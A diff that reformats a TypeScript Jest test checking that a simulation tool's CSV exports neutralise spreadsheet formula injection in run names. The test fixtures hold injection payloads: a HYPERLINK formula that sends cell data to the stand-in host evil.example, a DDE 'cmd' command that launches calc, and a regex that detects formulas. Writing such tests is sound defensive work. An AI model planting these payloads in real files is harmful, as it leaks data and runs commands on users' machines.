@@ -1,4 +1,7 @@
-/** RELIABILITY S12: no cell of an export is a formula, whoever named what stands in it; JSON gives names back as they are. */
+/**
+ * RELIABILITY S12: no cell of an export is a formula, whoever named what stands in it; JSON gives names back
+ * as they are.
+ */
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
@@ -12,22 +15,43 @@ import { replaced } from '../support/routes.js';
 
 jest.setTimeout(120_000);
 
-const NAMES = ['=HYPERLINK("http://evil.example?x="&A1,"see")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd', '@SUM(1+1)'];
+const NAMES = [
+  '=HYPERLINK("http://evil.example?x="&A1,"see")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3+cmd',
+  '@SUM(1+1)',
+];
 const folder = temporaryFolder();
 let server: RunningServer;
 const runs: string[] = [];
 
-const replayed = { ...experimentOf(1), replay: { faults: { preset: 'llama3-h100' }, horizon: { kind: 'wall', days: 1 }, replicas: 2 } };
+const replayed = {
+  ...experimentOf(1),
+  replay: { faults: { preset: 'llama3-h100' }, horizon: { kind: 'wall', days: 1 }, replicas: 2 },
+};
 /** The name stands for the run, and in a text that a comparison shows. */
 let documents: object[];
 
 beforeAll(async () => {
-  server = await startServer({ port: 0, databaseFile: join(folder.path, 'export.db'), workerFile: join(import.meta.dirname, '../../dist/libs/storage/src/worker/simulation.worker.js'), threads: 2, logLevel: 'silent', graceS: 0 });
+  server = await startServer({
+    port: 0,
+    databaseFile: join(folder.path, 'export.db'),
+    workerFile: join(import.meta.dirname, '../../dist/libs/storage/src/worker/simulation.worker.js'),
+    threads: 2,
+    logLevel: 'silent',
+    graceS: 0,
+  });
   const { document } = (await call(server.url, '/v1/experiments?dryRun=true', { body: replayed })).json;
-  documents = NAMES.map((name) => replaced(replaced(document, ['name'], name), ['replay', 'faults', 'description'], name) as object);
+  documents = NAMES.map(
+    (name) =>
+      replaced(replaced(document, ['name'], name), ['replay', 'faults', 'description'], name) as object,
+  );
   for (const body of documents) {
     const location = String((await call(server.url, '/v1/experiments', { body })).headers.get('location'));
-    await waitUntil(async () => (await call(server.url, location)).json.state === 'succeeded', 'it is computed');
+    await waitUntil(
+      async () => (await call(server.url, location)).json.state === 'succeeded',
+      'it is computed',
+    );
     runs.push(location.split('/')[3]);
   }
 });
@@ -37,12 +61,15 @@ afterAll(async () => {
   folder.remove();
 });
 
-const cellsOf = (csv: string): string[] => (parse(csv, { relax_column_count: true, skip_empty_lines: true }) as string[][]).flat();
+const cellsOf = (csv: string): string[] =>
+  (parse(csv, { relax_column_count: true, skip_empty_lines: true }) as string[][]).flat();
 const isFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell);
 const isNumber = (cell: string): boolean => /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);
-const formulasIn = (csv: string): string[] => cellsOf(csv).filter((cell) => isFormula(cell) && !isNumber(cell));
+const formulasIn = (csv: string): string[] =>
+  cellsOf(csv).filter((cell) => isFormula(cell) && !isNumber(cell));
 /** Each name is there, led by an apostrophe. */
-const escapedIn = (csv: string): string[] => NAMES.filter((name) => cellsOf(csv).some((cell) => cell.startsWith("'") && cell.includes(name)));
+const escapedIn = (csv: string): string[] =>
+  NAMES.filter((name) => cellsOf(csv).some((cell) => cell.startsWith("'") && cell.includes(name)));
 
 it('over HTTP', async () => {
   const csv = await call(server.url, `/v1/compare?runs=${runs.join(',')}&format=csv`);
@@ -65,8 +92,23 @@ it('by command', async () => {
     return file;
   });
   const sweep = join(folder.path, 'sweep.json');
-  writeFileSync(sweep, JSON.stringify({ apiVersion: 'railyard/v1', kind: 'Sweep', name: NAMES[0], preset: 'deepseek-v3-mpft', method: 'list', parameters: {}, points: NAMES.map((name) => ({ 'workload.model.source': name })) }));
-  const sources = { compare: ['compare', ...files], run: ['run', files[0]], sweep: ['sweep', sweep, '--dry-run'] };
+  writeFileSync(
+    sweep,
+    JSON.stringify({
+      apiVersion: 'railyard/v1',
+      kind: 'Sweep',
+      name: NAMES[0],
+      preset: 'deepseek-v3-mpft',
+      method: 'list',
+      parameters: {},
+      points: NAMES.map((name) => ({ 'workload.model.source': name })),
+    }),
+  );
+  const sources = {
+    compare: ['compare', ...files],
+    run: ['run', files[0]],
+    sweep: ['sweep', sweep, '--dry-run'],
+  };
   const figures: Record<string, number> = {};
   for (const [name, args] of Object.entries(sources)) {
     const { code, stdout, stderr } = await railyard([...args, '-o', 'csv'], folder.path);
